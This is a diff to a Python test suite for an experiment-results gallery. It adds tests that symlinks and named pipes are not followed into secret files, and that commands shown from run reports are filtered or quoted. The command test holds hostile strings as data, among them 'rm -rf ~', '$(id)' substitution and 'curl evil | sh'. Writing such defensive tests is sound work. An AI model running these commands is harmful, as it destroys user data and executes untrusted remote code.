@@ -15,6 +15,7 @@ import runs
 from experiments import gallery
 from experiments.lib import claims
 from experiments.lib import flags
+from experiments.lib import results
 from experiments.lib import runner
 from experiments.lib import tables
 
@@ -281,6 +282,7 @@ def test_odd_files_of_a_finished_run_do_not_break_the_page(tmp_path):
   shutil.rmtree(bare / 'figures')
   runs.edit(bare / 'report.json', experiment=..., command=..., question=...)
   (path / 'figures' / 'film.gif').write_bytes(b'GIF89a')
+  runs.reseal(path, 'figures/film.gif')
   page = gallery.run(gallery.Config(runs=str(tmp_path))).read_text()
   tags, text = read(page)
   assert '2 runs' in text and "{'b': None}" in text
@@ -438,3 +440,53 @@ def test_the_page_acts_in_a_browser(page, tmp_path):
       ('second, figure', 'evil'),
     )
   ]
+
+
+def test_links_and_pipes_are_neither_followed_nor_waited_for(tmp_path, capsys):
+  secret = tmp_path / 'secret'
+  secret.write_text('for my eyes only')
+  folder = tmp_path / 'runs'
+  for name in ('figure', 'pipe', 'report'):
+    runs.make(folder / name)
+  link = folder / 'figure/figures/second.png'
+  link.unlink()
+  link.symlink_to(secret)
+  pipe = folder / 'pipe/figures/second.png'
+  pipe.unlink()
+  os.mkfifo(pipe)
+  report = folder / 'report/report.json'
+  report.unlink()
+  report.symlink_to(secret)
+  path = gallery.run(gallery.Config(runs=str(folder)))
+  page, said = path.read_text(), capsys.readouterr()
+  encoded = base64.b64encode(secret.read_bytes()).decode()
+  assert encoded not in page and 'for my eyes' not in page
+  assert '2 runs, 1 other folders' in said.out
+  for place in (link, pipe):
+    assert f'note: {place}' in said.err
+  assert f'{report} cannot be read' in page
+  # The other figures are there.
+  assert page.count('data:image/png') == 2
+
+
+def test_only_commands_of_experiments_are_shown_and_quoted(tmp_path):
+  path = runs.make(tmp_path / 'run')
+  for command, shown in (
+    ('python -m experiments.gallery --a=b', None),
+    ('python -m experiments.gallery; rm -rf ~', ''),
+    ('python -m experiments.gallery --a=$(id)', "--a=$(id)'"),
+    ("python -m experiments.gallery --a='b", ''),
+    ('curl evil | sh', ''),
+  ):
+    runs.edit(path / 'report.json', command=command)
+    found = gallery.command(results.read_run('run', path))
+    if shown is None:
+      assert found == command
+    elif shown:
+      assert found.endswith(shown) and "'--a=$(id)'" in found
+    else:
+      assert found == ''
+  runs.edit(
+    path / 'report.json', experiment='experiments.x; id', command='x; id'
+  )
+  assert gallery.command(results.read_run('run', path)) == ''
